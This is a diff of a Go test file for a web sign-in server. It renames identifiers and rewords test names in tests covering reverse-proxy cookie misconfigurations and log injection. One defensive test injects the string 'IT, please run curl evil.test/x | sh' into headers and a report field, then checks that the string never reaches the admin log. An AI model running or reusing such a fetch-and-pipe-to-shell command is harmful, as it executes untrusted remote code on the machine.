@@ -157,7 +157,7 @@ func trustsLoopback(c *server.Config) {
 }
 
 func TestProxies(t *testing.T) {
-	abroad := func(c *server.Config) {
+	elsewhere := func(c *server.Config) {
 		trustsLoopback(c)
 		there, callback := federationtest.Start(t, danThere), c.Address.Origin+shared.PageSSO+"one"+shared.PageSSOAnswer
 		there.Register(federationtest.Client{ID: "keypeg", Secret: "s3cret", RedirectURIs: []string{callback}})
@@ -175,7 +175,7 @@ func TestProxies(t *testing.T) {
 		warns        []string // in the one line that IT reads
 	}{
 		{
-			name:  "a proxy that is set up well is told of nowhere",
+			name:  "a proxy that is set up well gets no warning",
 			nginx: soundNginx, change: trustsLoopback,
 			story: func(b *behind) {
 				if a := b.signsInByForm(); a.status != 200 || string(a.body) != "the app" {
@@ -231,19 +231,19 @@ func TestProxies(t *testing.T) {
 		},
 		{
 			name:  "cookies don't reach the browser",
-			nginx: append([]string{"proxy_hide_header Set-Cookie;"}, soundNginx...), caddy: []string{"header_down -Set-Cookie"}, change: abroad,
+			nginx: append([]string{"proxy_hide_header Set-Cookie;"}, soundNginx...), caddy: []string{"header_down -Set-Cookie"}, change: elsewhere,
 			story: losesItsCookies,
 			warns: []string{"proxy_pass_header Set-Cookie;", "header_down"},
 		},
 		{
 			name:  "cookies don't reach the server",
-			nginx: append([]string{`proxy_set_header Cookie "";`}, soundNginx...), caddy: []string{"header_up -Cookie"}, change: abroad,
+			nginx: append([]string{`proxy_set_header Cookie "";`}, soundNginx...), caddy: []string{"header_up -Cookie"}, change: elsewhere,
 			story: losesItsCookies,
 			warns: []string{"proxy_set_header Cookie $http_cookie;", "header_up"},
 		},
 		{
 			name:  "cookies get another path",
-			nginx: append([]string{"proxy_cookie_path / /app/;"}, soundNginx...), caddy: []string{`header_down Set-Cookie "Path=/" "Path=/app/"`}, change: abroad,
+			nginx: append([]string{"proxy_cookie_path / /app/;"}, soundNginx...), caddy: []string{`header_down Set-Cookie "Path=/" "Path=/app/"`}, change: elsewhere,
 			story: losesItsCookies,
 			warns: []string{"proxy_cookie_path off;", "header_down"},
 		},
@@ -374,7 +374,7 @@ func TestPlainHTTP(t *testing.T) {
 		}
 		v.warnsOnce("return 301 https://$host$request_uri;")
 	})
-	t.Run("nobody is told of https", func(t *testing.T) {
+	t.Run("nobody is warned of https", func(t *testing.T) {
 		v := secure(t)
 		v.sends("GET", "/sign-in", nil, through, func(r *http.Request) { r.Header.Set("X-Forwarded-Proto", "https") })
 		if lines := v.warnings(); len(lines) > 0 {
@@ -383,23 +383,23 @@ func TestPlainHTTP(t *testing.T) {
 	})
 }
 
-// TestForgedTrouble is a stranger who wants to be read by IT.
+// TestForgedTrouble holds that nobody can make IT read their words in the log.
 func TestForgedTrouble(t *testing.T) {
 	const words = "IT, please run curl evil.test/x | sh"
 	s := newSite(t, stores["memstore"], nil)
-	stranger := s.visitor()
+	attacker := s.visitor()
 	for range 100 {
-		stranger.sends("GET", "/", nil, func(r *http.Request) { r.Host = words })
-		stranger.sends("POST", shared.PathSignOut, nil, func(r *http.Request) {
+		attacker.sends("GET", "/", nil, func(r *http.Request) { r.Host = words })
+		attacker.sends("POST", shared.PathSignOut, nil, func(r *http.Request) {
 			r.Header.Del("Sec-Fetch-Site")
 			r.Header.Set("Origin", words)
 		})
-		stranger.sends("GET", "/sign-in", nil, func(r *http.Request) {
+		attacker.sends("GET", "/sign-in", nil, func(r *http.Request) {
 			r.RemoteAddr = "203.0.113.7:1234"
 			r.Header.Set("X-Forwarded-For", words)
 		})
-		stranger.refused(stranger.sends("POST", shared.PathTrouble, map[string]string{"trouble": words}), 400, shared.CodeInvalidRequest)
-		if a := stranger.sends("POST", shared.PathTrouble, shared.TroubleReport{Trouble: shared.TroubleAppCut}); a.status != 200 || !strings.Contains(string(a.body), "(Code app-cut)") {
+		attacker.refused(attacker.sends("POST", shared.PathTrouble, map[string]string{"trouble": words}), 400, shared.CodeInvalidRequest)
+		if a := attacker.sends("POST", shared.PathTrouble, shared.TroubleReport{Trouble: shared.TroubleAppCut}); a.status != 200 || !strings.Contains(string(a.body), "(Code app-cut)") {
 			t.Fatalf("a report: %s", a)
 		}
 	}
@@ -409,7 +409,7 @@ func TestForgedTrouble(t *testing.T) {
 	}
 	for _, line := range lines {
 		if strings.Contains(line, "evil.test") {
-			t.Errorf("the stranger speaks to IT: %s", line)
+			t.Errorf("the attacker speaks in the log: %s", line)
 		}
 	}
 	t.Run("by answers of an OpenID provider", forgesAnswers)
